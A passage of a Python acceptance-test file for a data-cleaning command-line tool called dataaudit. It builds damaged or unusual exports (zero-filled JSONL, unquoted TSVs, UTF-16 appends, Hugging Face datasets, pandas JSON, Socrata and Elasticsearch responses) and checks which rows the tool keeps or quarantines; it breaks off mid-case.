"""First-contact cases, fifth round: what exporters, crawlers, spreadsheets, databases and annotators really write."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import decimal
import gzip
import hashlib
import io
import json
import os
import random
import re
import resource
import shutil
import signal
import struct
import subprocess
import sys
import tarfile
import time
import uuid
import xml.etree.ElementTree as ElementTree
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from first_contact.form import Right, case

# ---------------------------------------------------------------------------------------------------------------- helpers

S = [
    "The ferry to the northern islands was cancelled because of fog this morning.",
    "My grandmother keeps her recipes in a tin box under the kitchen window.",
    "Three of the pumps failed inspection, and the fourth has no serial number.",
    "Please restart the router before you call the technician about slow downloads.",
    "A violin made in Cremona sold yesterday for more than two million euros.",
    "Our hotel room smelled of paint, yet the staff moved us within minutes.",
    "Voters in the valley rejected the new railway line by a narrow margin.",
    "Bees returning at dusk ignored the feeder and clustered around the lantern.",
    "The compiler warns about unused variables only when optimisation is enabled.",
    "He planted garlic in October and harvested sixty heads the following July.",
    "Snow closed both mountain passes, so the mail arrived by helicopter instead.",
    "Nobody at the museum could explain why the clock runs backwards on Sundays.",
    "I returned the headphones since the left speaker crackled at low volume.",
    "Researchers measured salt concentrations along forty kilometres of the estuary.",
    "The referee showed two red cards during the first ten minutes of play.",
    "Add the lentils last, otherwise they turn to mush and spoil the soup.",
    "Their lawyer argued that the contract had never been signed by both parties.",
    "Lightning struck the old oak behind the school and split its trunk in half.",
    "Customs officers found antique coins hidden inside a shipment of toys.",
    "The patient reported dizziness after switching to the generic medication.",
    "An unexpected frost ruined most of the apricot blossoms near the river.",
    "Children painted the bus stop with whales, rockets and a purple elephant.",
    "Every second seat in the orchestra stayed empty throughout the winter season.",
    "The satellite lost contact for nine hours before engineers regained control.",
    "She translated the poem twice and still disliked how the last stanza ended.",
    "Rents near the harbour have doubled since the shipyard became apartments.",
    "Our dog refuses to cross wooden bridges unless someone carries his blanket.",
    "Archaeologists uncovered a bakery with loaves still sitting in the oven.",
    "The printer jams whenever envelopes are fed from the bottom tray.",
    "Fishermen blame the warm current for an invasion of jellyfish this summer.",
    "Police asked drivers to avoid the tunnel until the water had been pumped out.",
    "Half of the choir caught a cold on the way to the festival in Prague.",
    "The new bridge sways slightly in strong wind, which is perfectly normal.",
    "Inflation slowed in March although bread and electricity became dearer.",
    "A retired teacher repaired the village telescope using bicycle parts.",
    "Delivery took eleven days and the parcel contained someone else's shoes.",
    "The glacier has retreated four hundred metres since my father was a boy.",
    "Goalkeepers train with tennis balls to sharpen their reflexes, coaches say.",
    "Mould appeared behind the wardrobe a month after we insulated the walls.",
    "The senate postponed its vote on fishing quotas until after the holidays.",
    "Owls nest in the bell tower, therefore nobody rings the bells in spring.",
    "This keyboard feels solid, but the space bar squeaks after a week of use.",
    "Volunteers counted seventeen herons along the canal before breakfast.",
    "The recipe calls for buttermilk; yoghurt thinned with water works as well.",
    "Her thesis compares wage records from two Flemish towns around 1560.",
    "Tourists queue for hours to photograph a staircase that leads nowhere.",
    "The algorithm sorts parcels by weight first and by postal district second.",
    "Ice cream vendors complained about the parade being moved to November.",
    "A thin layer of ash covered the cars parked below the volcano.",
    "Chess players in the park stopped for a moment when the siren sounded.",
    "The library lends umbrellas, drills and, since last week, a tuba.",
    "Mosquito nets reduced malaria in the district by roughly a third.",
    "Unlike its predecessor, this phone survives a fall onto concrete.",
    "The conductor apologised for the delay and handed out oranges.",
    "Farmers along the border exchange seeds but never discuss politics.",
    "Sixteen divers searched the lake for the anchor of a sunken steamer.",
    "I would have given five stars if the zipper had lasted longer.",
    "The committee prefers blue carpets, citing a study about concentration.",
    "Wild boars dug up the golf course two nights before the tournament.",
    "An engineer in Osaka built a clock out of four hundred chopsticks.",
]
T0 = S[:]

_VOCABULARY = [a + b + c for a in ("ba", "ko", "mi", "ru", "te", "lo", "sha", "vin", "dor", "pel")
               for b in ("na", "ri", "so", "tu", "ga", "le") for c in ("m", "x", "nd", "st", "f", "rk")]


def synth(seed: int, words: int = 14) -> str:
    """A sentence of made-up words; two seeds never give near-duplicates."""
    draw = random.Random(seed * 7919 + 13)
    return " ".join(draw.choice(_VOCABULARY) for _ in range(words)).capitalize() + f" {seed}."


def jsonl(path: Path, rows: list, mode: str = "w") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, mode, encoding="utf-8", newline="\n") as out:
        for row in rows:
            out.write(json.dumps(row, ensure_ascii=False) + "\n")


def tables(folder: Path, out: str = "out"):
    """(relative path, Arrow table) of each Parquet file in clean/."""
    root = folder / out / "clean"
    for path in sorted(root.rglob("*.parquet")):
        yield path.relative_to(root), pq.ParquetFile(path).read()


def clean(folder: Path, out: str = "out") -> list[dict]:
    return [row for _, table in tables(folder, out) for row in table.to_pylist()]


def clean_where(folder: Path, out: str = "out") -> list[tuple[str, dict]]:
    """(folder inside clean/, row)."""
    return [(str(path.parent), row) for path, table in tables(folder, out) for row in table.to_pylist()]


def loose(value):
    """A value without what storage may add: nulls in structs, maps as lists of pairs, JSON kept as text."""
    if isinstance(value, (bytes, bytearray)):
        try:
            return loose(bytes(value).decode())
        except UnicodeDecodeError:
            return bytes(value)
    if isinstance(value, str):
        stripped = value.strip()
        if stripped[:1] in ("{", "[") or (stripped[:1] == '"' and stripped[-1:] == '"' and len(stripped) > 1):
            try:
                return loose(json.loads(stripped))
            except ValueError:
                return value
        return value
    if isinstance(value, dict):
        return {key: loose(item) for key, item in value.items() if item is not None and loose(item) != {}}
    if isinstance(value, list) and value and all(isinstance(item, tuple) and len(item) == 2 for item in value):
        return loose(dict(value))
    if isinstance(value, (list, tuple)):
        return [loose(item) for item in value]
    return value


def leaves(value) -> list:
    """All values at the ends of a nested value."""
    value = loose(value)
    if isinstance(value, dict):
        return [leaf for item in value.values() for leaf in leaves(item)]
    if isinstance(value, list):
        return [leaf for item in value for leaf in leaves(item)]
    return [value]


def in_quarantine(folder: Path, out: str = "out") -> int:
    count = 0
    for path in sorted((folder / out / "quarantine").rglob("*")):
        if path.suffix == ".parquet":
            count += pq.ParquetFile(path).metadata.num_rows
        elif path.suffix == ".jsonl":
            count += len(path.read_bytes().splitlines())
    return count


def quarantined_or_said(folder: Path, text: str, out: str = "out") -> bool:
    return in_quarantine(folder, out) > 0 or re.search(r"quarantin|could not be read|cannot be read|unreadable|damaged", text, re.I) is not None


def refused(code: int) -> bool:
    return code in (2, 3)


def no_traceback(text: str) -> list[str]:
    return ["a Python traceback was shown"] if "Traceback (most recent call last)" in text else []


def texts_exactly(folder: Path, texts, column: str = "text", out: str = "out") -> list[str]:
    have = sorted(str(row.get(column)) for row in clean(folder, out))
    want = sorted(texts)
    if have == want:
        return []
    missing = [text for text in want if text not in have]
    extra = [text for text in have if text not in want]
    return [f"{column}: {len(have)} rows for {len(want)}; missing {missing[:2]!r:.300}; extra {extra[:2]!r:.300}"]


def dataaudit(folder: Path, *args: str, timeout: float = 240) -> subprocess.CompletedProcess:
    """A further call of the command, in the same folder."""
    beside = Path(sys.executable).with_name("dataaudit")
    found = str(beside) if beside.exists() else (shutil.which("dataaudit"))
    return subprocess.run([found, *map(str, args)], cwd=folder, capture_output=True, text=True, errors="replace", timeout=timeout)


def command() -> str:
    beside = Path(sys.executable).with_name("dataaudit")
    return str(beside) if beside.exists() else (shutil.which("dataaudit"))


# ------------------------------------------------------------------------------------------------------ 1. damaged records


@case(kind="damaged records", sound=False)
def jsonl_zero_filled_hole(folder: Path) -> Right:
    """A log on XFS after a power loss: in the middle of line 7 stand 3,000 zero bytes in place of what was written last."""
    lines = [json.dumps({"text": S[i], "n": i}).encode() for i in range(14)]
    lines[6] = lines[6][:30] + b"\0" * 3000 + lines[6][45:]
    (folder / "events.jsonl").write_bytes(b"\n".join(lines) + b"\n")
    return Right(
        args=["run", "--input", "events.jsonl", "--out", "out"],
        exit_codes={0},
        rows=[{"text": S[i], "n": i} for i in range(14) if i != 6],
        quarantined=1,
        says=[r"quarantin|could not be read|cannot be read|unreadable"],
        why="Zero bytes are not allowed in a JSON string: that one record is damaged, the 13 others are not.",
    )


@case(kind="damaged records", sound=True)
def tsv_imdb_without_quoting(folder: Path) -> Right:
    """IMDb's title.basics.tsv: tab-separated, never quoted, so a quotation mark is a character like any other; \\N is null."""
    titles = {
        "tt0039001": "The long ferry to the northern islands",
        "tt0039002": "\"Rome\" wasn't built in a day, an archive film",
        "tt0039003": "Grandmother's recipes in a tin box",
        "tt0039004": "\"Consider Your Verdict on Stolen Violins",
        "tt0039005": "Bees returning at dusk to the lantern",
        "tt0039006": "Garlic planted in October, harvested in July",
        "tt0039007": "The 19\" Rain over Bombay",
        "tt0039008": "Why the museum clock runs backwards",
        "tt0039009": "Lightning splits the old oak behind school",
        "tt0039010": "Customs officers find coins inside toys",
        "tt0039011": "Children paint whales and one purple elephant",
        "tt0039012": "A satellite silent for nine hours",
        "tt0039013": "Owls nesting in the bell tower",
        "tt0039014": "Sixteen divers and a sunken steamer",
    }
    out = ["tconst\ttitleType\tprimaryTitle\tisAdult\tstartYear\tendYear\truntimeMinutes\tgenres"]
    for n, (key, title) in enumerate(titles.items()):
        out.append("\t".join([key, "short" if n % 2 else "tvEpisode", title, "0", str(1947 + n), "\\N",
                              "\\N" if n % 3 else str(12 + n), "Drama,Short"]))
    (folder / "title.basics.tsv").write_text("\n".join(out) + "\n", encoding="utf-8")

    def check(folder, stdout, stderr, code):
        if refused(code):
            return no_traceback(stdout + stderr)
        wrong = no_traceback(stdout + stderr)
        rows = {row.get("tconst"): row.get("primaryTitle") for row in clean(folder)}
        odd = {"tt0039002", "tt0039004", "tt0039007"}
        for key, title in titles.items():
            if key not in rows:
                if key not in odd:
                    wrong.append(f"{key} is missing although nothing is odd about it")
                elif not in_quarantine(folder):
                    wrong.append(f"{key} is missing and nothing is in quarantine")
            elif rows[key] != title:
                wrong.append(f"{key}: {rows[key]!r:.200} in place of {title!r}")
        return wrong

    return Right(
        args=["run", "--input", "title.basics.tsv", "--template", "{primaryTitle}", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="Titles must come through letter by letter, with their quotation marks; rows that a parser for quoted fields would "
            "merge must at least be in quarantine.",
    )


@case(kind="damaged records", sound=True)
def tsv_of_r_write_table(folder: Path) -> Right:
    """R's write.table(df, "reviews.tsv", sep="\\t") with its defaults: row names are written, but the header has no cell for them."""
    want = [{"text": S[i], "label": "good" if i % 2 else "bad", "stars": i % 5 + 1} for i in range(20, 30)]
    lines = ['"text"\t"label"\t"stars"'] + [f'"{n}"\t"{row["text"]}"\t"{row["label"]}"\t{row["stars"]}' for n, row in enumerate(want, 1)]
    (folder / "reviews.tsv").write_text("\n".join(lines) + "\n", encoding="utf-8")

    def check(folder, stdout, stderr, code):
        if code != 0:
            return no_traceback(stdout + stderr)
        wrong = []
        rows = {row.get("text"): row for row in clean(folder)}
        for row in want:
            have = rows.get(row["text"])
            if have is None:
                wrong.append(f"the column text does not hold {row['text']!r}")
            elif have.get("label") != row["label"] or str(have.get("stars")) not in (str(row["stars"]), f"{row['stars']}.0"):
                wrong.append(f"values moved to other columns: {have!r:.200}")
        return wrong[:3]

    return Right(
        args=["run", "--input", "reviews.tsv", "--label", "label", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="The first field of each row is a row name; shifting every value by one column, or losing the last one, would be wrong.",
    )


@case(kind="damaged records", sound=False)
def jsonl_powershell_appended_utf16(folder: Path) -> Right:
    """A UTF-8 file to which `jq -c . >> train.jsonl` in Windows PowerShell 5.1 appended four records in UTF-16."""
    first = [{"text": S[i] + " Größe für Zoë.", "n": i} for i in range(12)]
    second = [{"text": S[i] + " Größe für Zoë.", "n": i} for i in range(12, 16)]
    data = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in first).encode()
    data += "".join(json.dumps(row, ensure_ascii=False) + "\r\n" for row in second).encode("utf-16-le")
    (folder / "train.jsonl").write_bytes(data)

    def check(folder, stdout, stderr, code):
        text = stdout + stderr
        if code != 0:
            return no_traceback(text)
        wrong = []
        right = {row["text"] for row in first + second}
        have = [row.get("text") for row in clean(folder)]
        wrong += [f"lost: {row['text']!r}" for row in first if row["text"] not in have][:2]
        wrong += [f"not a text of the file: {value!r:.120}" for value in have if value not in right][:2]
        if len(have) < 16 and not quarantined_or_said(folder, text):
            wrong.append("records are missing, none is in quarantine")
        return wrong

    return Right(
        args=["run", "--input", "train.jsonl", "--out", "out"],
        exit_codes={0, 2, 3},
        check=check,
        why="Twelve records are sound UTF-8; what follows is damage and must be in quarantine or decoded rightly, and never pull the "
            "sound ones along.",
    )


@case(kind="damaged records", sound=False)
def jsonl_tweets_cut_inside_a_surrogate_pair(folder: Path) -> Right:
    """A crawler in JavaScript cut texts to 60 UTF-16 units: one text and one name end in half an emoji. \\u0000 in a text is legal."""
    good = [{"text": S[i], "user": f"user {i}", "n": i} for i in range(30, 38)]
    good[2]["text"] = "Delivery took eleven days \U0001f4e6 and the parcel contained shoes."
    good[5]["text"] = "A thin layer of ash\u0000covered the cars parked below the volcano."
    lines = [json.dumps(row) for row in good]                      # ensure_ascii: pairs are written as \ud83d\udce6
    lines.insert(3, '{"text": "Wild boars dug up the golf course two nights before it \\ud83d", "user": "u", "n": 100}')
    lines.insert(6, '{"text": "An engineer in Osaka built a clock out of chopsticks.", "user": "k \\ude00", "n": 101}')
    (folder / "tweets.jsonl").write_text("\n".join(lines) + "\n", encoding="ascii")

    def check(folder, stdout, stderr, code):
        text = stdout + stderr
        wrong = no_traceback(text)
        rows = {row.get("n"): row for row in clean(folder)}
        for row in good:
            have = rows.get(row["n"])
            if have is None or have.get("text") != row["text"] or have.get("user") != row["user"]:
                wrong.append(f"sound record {row!r} became {have!r}")
        missing = [n for n in (100, 101) if n not in rows]
        if len(missing) > 0 and in_quarantine(folder) < len(missing):
            wrong.append(f"{missing} are neither in clean/ nor in quarantine")
        if len(missing) < 2 and not re.search(r"surrogate|replac|not valid|invalid|U\+FFFD|\\ud83d", text, re.I):
            wrong.append("a lone surrogate was replaced without a word")
        return wrong[:4]

    return Right(
        args=["run", "--input", "tweets.jsonl", "--out", "out"],
        exit_codes={0},
        check=check,
        why="Half a surrogate pair is no character: quarantine, or a replacement that is told; the eight other records are sound.",
    )


@case(kind="damaged records", sound=True)
def csv_of_spark_with_backslash_escapes(folder: Path) -> Right:
    """Spark's CSV writer with header=true: quotation marks inside of quoted fields are escaped by a backslash, not doubled."""
    texts = [S[i] for i in range(40, 52)]
    texts[2] = 'The sign read "closed, come back later", so we left at once.'
    texts[6] = 'She said "go", then he asked "where, exactly" and nobody knew.'
    texts[9] = 'Call it "a reform", if you like, but the pensions fell anyway.'
    lines = ["id,text,score"]
    for n, text in enumerate(texts):
        field = '"' + text.replace('"', '\\"') + '"' if any(c in text for c in ',"') else text
        lines.append(f"{n},{field},{n + 1}")
    name = "part-00000-5f2b1c0e-9d0c-4a53-8a39-6a1a6a2f6c11-c000.csv"
    (folder / "reviews").mkdir()
    (folder / "reviews" / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    (folder / "reviews" / "_SUCCESS").write_bytes(b"")
    (folder / "reviews" / f".{name}.crc").write_bytes(b"crc\0\0\0\x02\0\x12\x34\x56\x78")
    (folder / "reviews" / "._SUCCESS.crc").write_bytes(b"crc\0\0\0\x02\0")

    def check(folder, stdout, stderr, code):
        text = stdout + stderr
        if code != 0:
            return no_traceback(text)
        have = [row.get("text") for row in clean(folder)]
        wrong = [f"not a text of the file: {value!r}" for value in have if value not in texts]
        for n, want in enumerate(texts):
            if want not in have and n not in (2, 6, 9):
                wrong.append(f"lost although nothing is odd about it: {want!r}")
        if len(have) < len(texts) and not quarantined_or_said(folder, text):
            wrong.append("rows are missing, none is in quarantine")
        return wrong[:4]

    return Right(
        args=["run", "--input", "reviews", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="Three texts hold escaped quotation marks: read rightly, or in quarantine, but never changed and never cut.",
    )


# ---------------------------------------------------------------------------------------------------- 2. splits and features


@case(kind="splits and features", sound=True)
def glue_datasetdict_blind_test(folder: Path) -> Right:
    """GLUE's SST-2 after save_to_disk: a DatasetDict whose test split has the label -1 (not published), which is no class."""
    import datasets

    features = datasets.Features({"sentence": datasets.Value("string"), "label": datasets.ClassLabel(names=["negative", "positive"]),
                                  "idx": datasets.Value("int32")})
    parts = {"train": range(0, 10), "validation": range(10, 14), "test": range(14, 19)}
    made = {name: {"sentence": [S[i] for i in span], "label": [-1 if name == "test" else i % 2 for i in span],
                   "idx": [i - span.start for i in span]} for name, span in parts.items()}
    datasets.DatasetDict({name: datasets.Dataset.from_dict(part, features=features) for name, part in made.items()}
                         ).save_to_disk(str(folder / "sst2"))
    rows = [{"sentence": part["sentence"][i], "label": part["label"][i], "idx": part["idx"][i]}
            for part in made.values() for i in range(len(part["idx"]))]

    def check(folder, stdout, stderr, code):
        wrong = no_traceback(stdout + stderr)
        for where, row in clean_where(folder):
            split = next(name for name, part in made.items() if row["sentence"] in part["sentence"])
            if split not in where.split("/"):
                wrong.append(f"a row of {split} is in clean/{where}")
        try:
            back = datasets.load_dataset(str(folder / "out" / "clean"), cache_dir=str(folder / "cache"))
            if set(back) != set(parts):
                wrong.append(f"load_dataset gives the splits {sorted(back)}")
            elif getattr(back["train"].features["label"], "names", None) != ["negative", "positive"]:
                wrong.append(f"load_dataset gives the label as {back['train'].features['label']!r}")
        except Exception as error:  # noqa: BLE001
            wrong.append(f"load_dataset cannot read clean/: {error!r:.200}")
        return wrong[:4]

    return Right(
        args=["run", "--input", "sst2", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=check,
        why="Labels are the integers of the ClassLabel, -1 included; splits and class names stay what they were.",
    )


@case(kind="splits and features", sound=True)
def squad_v2_nested_features_in_shards(folder: Path) -> Right:
    """SQuAD 2.0 with annotators' columns, save_to_disk in 3 shards: lists of structs, empty lists, lists of classes, binary, time."""
    import datasets

    features = datasets.Features({
        "id": datasets.Value("string"), "context": datasets.Value("large_string"), "question": datasets.Value("string"),
        "answers": {"text": datasets.List(datasets.Value("string")), "answer_start": datasets.List(datasets.Value("int32"))},
        "tags": datasets.List(datasets.ClassLabel(names=["who", "when", "where"])),
        "spans": datasets.List({"start": datasets.Value("int64"), "kind": datasets.Value("string")}),
        "raw": datasets.Value("binary"), "score": datasets.Value("float32"), "asked": datasets.Value("timestamp[s]"),
        "agreed": datasets.Value("bool"),
    })
    rows = []
    for i in range(9):
        rows.append({
            "id": f"56ddde6b9a695914005b96{i:02d}", "context": S[20 + i] + " " + S[40 + i], "question": f"What happened {synth(i, 5)[:-1]}?",
            "answers": {"text": [] if i % 3 == 0 else [S[20 + i][:9]], "answer_start": [] if i % 3 == 0 else [0]},
            "tags": [] if i == 4 else [i % 3, (i + 1) % 3], "spans": [] if i == 2 else [{"start": 2**40 + i, "kind": "a"}, {"start": i, "kind": ""}],
            "raw": bytes([0xFF, 0xFE, i, 0]), "score": 0.25 * i, "asked": dt.datetime(1969, 12, 31, 23, 59, 50) + dt.timedelta(seconds=5 * i),
            "agreed": None if i == 7 else i % 2 == 0,
        })
    datasets.Dataset.from_list(rows, features=features).save_to_disk(str(folder / "squad"), num_shards=3)
    return Right(
        args=["run", "--input", "squad", "--template", "{question}\\n{context}", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        why="Every nested value of a saved data set is a value of the user; an empty list is not null.",
    )


@case(kind="splits and features", sound=True)
def cola_train_without_header_test_with_header(folder: Path) -> Right:
    """GLUE's CoLA folder: train.tsv and dev.tsv have no header (source, label, mark, sentence), test.tsv has one."""
    def part(span):
        return "".join(f"gj04\t{i % 2}\t{'*' if i % 2 == 0 else ''}\t{S[i]}\n" for i in span)
    root = folder / "CoLA"
    root.mkdir()
    (root / "train.tsv").write_text(part(range(0, 12)), encoding="utf-8")
    (root / "dev.tsv").write_text(part(range(12, 17)), encoding="utf-8")
    (root / "test.tsv").write_text("index\tsentence\n" + "".join(f"{i - 17}\t{S[i]}\n" for i in range(17, 22)), encoding="utf-8")

    def check(folder, stdout, stderr, code):
        text = stdout + stderr
        if code != 0:
            return no_traceback(text)
        have = {leaf for row in clean(folder) for leaf in leaves(row) if isinstance(leaf, str)}
        wrong = [f"lost: {S[i]!r}" for i in range(22) if i not in (0, 12) and S[i] not in have and not in_quarantine(folder)][:2]
        if any(S[i] not in have for i in (0, 12)) and not in_quarantine(folder) and not re.search(r"header|column names|first (line|row)|no names", text, re.I):
            wrong.append("the first sentence of a file without header was lost (taken for column names) without a word")
        return wrong

    return Right(
        args=["run", "--input", "CoLA", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="The first line of a file without header is a row; to take it for names loses it, so the tool must read it, say so or refuse.",
    )


@case(kind="splits and features", sound=True)
def hub_card_names_a_holdout_split(folder: Path) -> Right:
    """A repository of the hub: the card's `configs` names data files of the splits `train` and `holdout`; file names say nothing."""
    root = folder / "ham-or-spam"
    (root / "data").mkdir(parents=True)
    (root / "extra").mkdir()
    def put(path, span):
        pq.write_table(pa.table({"text": [S[i] for i in span], "label": pa.array([i % 2 for i in span], pa.int64())}), path)
    put(root / "data" / "part-0.parquet", range(0, 6))
    put(root / "data" / "part-1.parquet", range(6, 12))
    put(root / "extra" / "x.parquet", range(12, 17))
    (root / "README.md").write_text("""---
license: mit
pretty_name: "Ham: or spam?"
configs:
- config_name: default
  data_files:
  - split: train
    path: "data/part-*.parquet"
  - split: holdout
    path:
    - extra/*.parquet
dataset_info:
  features:
  - name: text
    dtype: string
  - name: label
    dtype:
      class_label:
        names:
          '0': ham
          '1': spam
---

# Ham or spam

The rows were written by volunteers, who were asked to describe something that they had seen on their way to work.
""", encoding="utf-8")
    (root / ".gitattributes").write_text("*.parquet filter=lfs diff=lfs merge=lfs -text\n")

    def check(folder, stdout, stderr, code):
        wrong = []
        for where, row in clean_where(folder):
            want = "holdout" if row["text"] in S[12:17] else "train"
            if want not in where.split("/"):
                wrong.append(f"a row of {want} is in clean/{where}")
        return wrong[:2]

    return Right(
        args=["run", "--input", "ham-or-spam", "--out", "out"],
        exit_codes={0},
        rows=[{"text": S[i], "label": i % 2} for i in range(17)],
        quarantined=0,
        check=check,
        why="README: splits come from a dataset card; the card and .gitattributes are no data.",
    )


@case(kind="splits and features", sound=True)
def acl_imdb_one_file_per_review(folder: Path) -> Right:
    """The Large Movie Review Dataset: aclImdb/{train,test}/{pos,neg}/ID_STARS.txt, one review a file, no line end, <br /> tags."""
    want = {"train": [], "test": []}
    i = 0
    for split, count in (("train", 5), ("test", 3)):
        for kind in ("pos", "neg"):
            for n in range(count):
                text = S[i] + "<br /><br />" + S[i + 20] + (" Naïve, café." if n == 1 else "")
                path = folder / "aclImdb" / split / kind / f"{n}_{9 if kind == 'pos' else 2}.txt"
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_bytes(text.encode())
                want[split].append(text)
                i += 1

    def check(folder, stdout, stderr, code):
        wrong = []
        for where, row in clean_where(folder):
            split = "train" if row["text"] in want["train"] else "test"
            if split not in where.split("/"):
                wrong.append(f"a review of {split}/ is in clean/{where}")
        return wrong[:2]

    return Right(
        args=["run", "--input", "aclImdb", "--out", "out"],
        exit_codes={0},
        rows=[{"text": text} for part in want.values() for text in part],
        quarantined=0,
        check=check,
        why="Sixteen files of one line each are sixteen texts; the folders train and test name the splits.",
    )


@case(kind="splits and features", sound=True)
def file_names_that_contain_names_of_splits(folder: Path) -> Right:
    """Newspaper exports: latest.jsonl, protest_reports.jsonl, devices.jsonl, trainers-2023.jsonl, contest.jsonl are no splits."""
    names = ["latest", "protest_reports", "devices", "trainers-2023", "contest", "attested.forms", "restrained"]
    rows = []
    for k, name in enumerate(names):
        part = [{"text": S[k * 4 + j], "source": name, "n": k * 4 + j} for j in range(4)]
        jsonl(folder / "news" / f"{name}.jsonl", part)
        rows += part

    def check(folder, stdout, stderr, code):
        named = {piece.lower() for where, _ in clean_where(folder) for piece in where.split("/")}
        bad = named & {"train", "test", "validation", "dev", "valid", "eval", "val"}
        return [f"clean/ has the splits {sorted(bad)}, which no file name names"] if bad else []

    return Right(
        args=["run", "--input", "news", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=check,
        why="`test` inside of `latest` or `protest` is no split.",
    )


# -------------------------------------------------------------------------------------------------------- 3. JSON containers


@case(kind="json container", sound=True)
def pandas_to_json_default_orient(folder: Path) -> Right:
    """df.sample(frac=1).to_json("reviews.json"): column -> index -> value; it looks like a mapping from id to record, but is columns."""
    index = ["7", "2", "11", "0", "5", "3", "9", "1"]
    rows = [{"text": S[i], "label": "yes" if i % 3 else "no", "n": 100 + i} for i in range(8)]
    document = {name: {key: row[name] for key, row in zip(index, rows, strict=True)} for name in ("text", "label", "n")}
    (folder / "reviews.json").write_text(json.dumps(document, separators=(",", ":")), encoding="utf-8")
    return Right(
        args=["run", "--input", "reviews.json", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        refusal_is_fine=True,
        why="Eight rows of three columns; read as three records with the columns 7, 2, 11 ... it would be another table.",
    )


@case(kind="json container", sound=True)
def pandas_orient_table(folder: Path) -> Right:
    """df.to_json(orient="table"): the records stand under `data`; `schema.fields` is a list of objects too, but no data."""
    rows = [{"index": i, "text": S[10 + i], "stars": i % 5, "seen": f"2024-03-0{i + 1}T00:00:00.000Z"} for i in range(6)]
    document = {"schema": {"fields": [{"name": "index", "type": "integer"}, {"name": "text", "type": "string"},
                                      {"name": "stars", "type": "integer"}, {"name": "seen", "type": "datetime", "tz": "UTC"}],
                           "primaryKey": ["index"], "pandas_version": "1.4.0"}, "data": rows}
    (folder / "frame.json").write_text(json.dumps(document, separators=(",", ":")), encoding="utf-8")
    return Right(
        args=["run", "--input", "frame.json", "--out", "out"],
        exit_codes={0},
        rows=[{"index": row["index"], "text": row["text"], "stars": row["stars"]} for row in rows],
        quarantined=0,
        refusal_is_fine=True,
        why="Six records; the four descriptions of columns are none.",
    )


@case(kind="json container", sound=True)
def gh_api_paginate_arrays_one_after_the_other(folder: Path) -> Right:
    """`gh api --paginate repos/o/r/issues > issues.json`: one array per page, written one directly after the other: [...][...][...]."""
    rows = [{"id": 2**33 + i, "title": f"Issue {i}", "body": S[20 + i] + "\r\n\r\n" + S[36 + i] + (" 🐝" if i == 4 else ""),
             "user": {"login": f"dev-{i}", "id": i}, "labels": [] if i % 2 else [{"name": "bug"}], "locked": False} for i in range(11)]
    (folder / "issues.json").write_text("".join(json.dumps(rows[a:b], ensure_ascii=False, separators=(",", ":"))
                                                for a, b in ((0, 5), (5, 10), (10, 11))), encoding="utf-8")
    return Right(
        args=["run", "--input", "issues.json", "--template", "{body}", "--out", "out"],
        exit_codes={0},
        rows=[{key: row[key] for key in ("id", "title", "body", "locked")} for row in rows],
        refusal_is_fine=True,
        why="Eleven issues on three pages; reading only the first page loses six.",
    )


@case(kind="json container", sound=True)
def json_text_sequence_with_record_separators(folder: Path) -> Right:
    """RFC 7464 (systemd, ogr2ogr GeoJSONSeq with RS=YES): each record begins with the byte 1E; some are printed over several lines."""
    rows = [{"text": S[30 + i], "n": i, "place": {"lat": 47.5 + i, "lon": -1.25}} for i in range(7)]
    with open(folder / "notes.jsonl", "w", encoding="utf-8") as out:
        for row in rows:
            out.write("\x1e" + json.dumps(row, indent=2 if row["n"] % 3 == 1 else None) + "\n")
    return Right(
        args=["run", "--input", "notes.jsonl", "--out", "out"],
        exit_codes={0},
        rows=[{"text": row["text"], "n": row["n"]} for row in rows],
        refusal_is_fine=True,
        why="A JSON text sequence is a standard; read it or refuse it, but do not read some of its records only.",
    )


@case(kind="json container", sound=True)
def socrata_rows_json(folder: Path) -> Right:
    """An open-data portal (Socrata rows.json): `data` is a list of lists, the columns are described in meta.view.columns."""
    names = [":sid", ":id", ":position", ":created_at", ":meta", "Complaint", "Borough", "Amount"]
    columns = [{"id": -1 if name.startswith(":") else 500 + i, "name": name.strip(":") if name.startswith(":") else name,
                "dataTypeName": "meta_data" if name.startswith(":") else "text", "fieldName": name.lower(), "position": i,
                "description": "The text that the citizen wrote, unedited, as it reached the office on that day." if name == "Complaint" else "",
                "renderTypeName": "text", "format": {}} for i, name in enumerate(names)]
    data = [[f"row-ab{i}c-9xyz", f"00000000-0000-0000-{i:04d}-0123456789AB", 0, 1700000000 + i, "{ }", S[40 + i],
             ["BRONX", "QUEENS", None][i % 3], f"{i}.50"] for i in range(6)]
    document = {"meta": {"view": {"id": "erm2-nwe9", "name": "Complaints", "columns": columns, "flags": ["default"]}}, "data": data}
    (folder / "rows.json").write_text(json.dumps(document, indent=1), encoding="utf-8")

    def check(folder, stdout, stderr, code):
        if code != 0:
            return no_traceback(stdout + stderr)
        rows = clean(folder)
        found = {leaf for row in rows for leaf in leaves(row)}
        wrong = [f"lost: {row[5]!r}" for row in data if row[5] not in found][:2]
        if len(rows) != 6:
            wrong.append(f"{len(rows)} rows for 6")
        if "meta_data" in found:
            wrong.append("descriptions of columns were read as rows")
        return wrong

    return Right(
        args=["run", "--input", "rows.json", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="Six complaints; README: input.columns names the columns where rows are lists, so a refusal that says so is right as well.",
    )


@case(kind="json container", sound=True)
def elasticsearch_search_response(folder: Path) -> Right:
    """curl .../_search?size=100 > hits.json: records are in hits.hits[]._source; an aggregation beside it holds a list of objects too."""
    hits = [{"_index": "posts", "_id": f"aX{i}_-Q", "_score": 1.0, "_source": {"body": S[i], "tags": ["a", f"t{i}"], "views": 10**12 + i}}
            for i in range(7)]
    document = {"took": 3, "timed_out": False, "_shards": {"total": 5, "successful": 5, "skipped": 0, "failed": 0},
